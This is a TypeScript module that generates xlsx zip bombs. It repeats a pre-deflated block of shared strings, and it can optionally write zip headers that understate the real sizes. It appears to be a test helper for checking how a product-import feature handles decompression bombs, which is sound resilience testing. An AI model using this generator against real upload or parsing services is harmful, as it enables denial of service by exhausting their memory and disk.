import { constants, crc32, deflateRawSync } from 'node:zlib';

/**
 * Zip bombs shaped as .xlsx files, built without ever holding what they inflate to: a block of shared
 * strings is deflated once with a full flush (which resets the compressor, so the same bytes decode the same
 * wherever they stand), and those bytes are repeated, then closed by an empty final block.
 */

interface Entry {
  name: string;
  /** Deflated bytes. */
  data: Buffer;
  crc: number;
  size: number;
}

const WORKBOOK_FILES: Record<string, string> = {
  '[Content_Types].xml':
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
  '_rels/.rels':
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  'xl/workbook.xml':
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Products" sheetId="1" r:id="rId1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels':
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
};

const WORKSHEET =
  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>1</v></c></row></sheetData></worksheet>';

function small(name: string, text: string): Entry {
  const bytes = Buffer.from(text);
  return { name, data: deflateRawSync(bytes), crc: crc32(bytes), size: bytes.length };
}

/** `<sst>` holding `repeats` copies of `block`, deflated as described above. */
function repeatedStrings(block: string, repeats: number): Entry {
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>Name</t></si><si><t>Price</t></si>',
  );
  const tail = Buffer.from('</sst>');
  const body = Buffer.from(block);
  const flushed = { finishFlush: constants.Z_FULL_FLUSH };
  const unit = deflateRawSync(body, flushed);
  let crc = crc32(head);
  for (let index = 0; index < repeats; index++) crc = crc32(body, crc);
  crc = crc32(tail, crc);
  const data = Buffer.concat([
    deflateRawSync(head, flushed),
    ...Array.from({ length: repeats }, () => unit),
    deflateRawSync(tail),
  ]);
  return { name: 'xl/sharedStrings.xml', data, crc, size: head.length + body.length * repeats + tail.length };
}

/** A zip of the entries (deflated, sizes in the local and central headers as given). */
function zip(entries: readonly Entry[], declaredSize: (entry: Entry) => number): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(entry.crc, 14);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(declaredSize(entry), 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(entry.crc, 16);
    central.writeUInt32LE(entry.data.length, 20);
    central.writeUInt32LE(declaredSize(entry), 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += local.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export interface BombOptions {
  /** What the shared strings inflate to, about. */
  inflatedBytes: number;
  /** One shared string, repeated; `<si><t>…</t></si>` and its text. */
  text?: string;
  /** `honest`: the headers say the real sizes; `small`: they say 1 KB (a lying zip). */
  declared?: 'honest' | 'small';
}

/** An .xlsx whose xl/sharedStrings.xml inflates to about `inflatedBytes` (a header row, one product row). */
export function xlsxBomb({ inflatedBytes, text = 'GaragePro', declared = 'honest' }: BombOptions): Buffer {
  const item = `<si><t>${text}</t></si>`;
  // Blocks of about 64 KB, each deflated to about 100 bytes.
  const perBlock = Math.max(1, Math.floor(65_536 / item.length));
  const block = item.repeat(perBlock);
  const strings = repeatedStrings(block, Math.max(1, Math.ceil(inflatedBytes / block.length)));
  const entries = [
    ...Object.entries(WORKBOOK_FILES).map(([name, text]) => small(name, text)),
    strings,
    small('xl/worksheets/sheet1.xml', WORKSHEET),
  ];
  const size = (entry: Entry) => (declared === 'small' ? Math.min(entry.size, 1024) : entry.size);
  return zip(entries, (entry) => Math.min(size(entry), 0xffffffff));
}
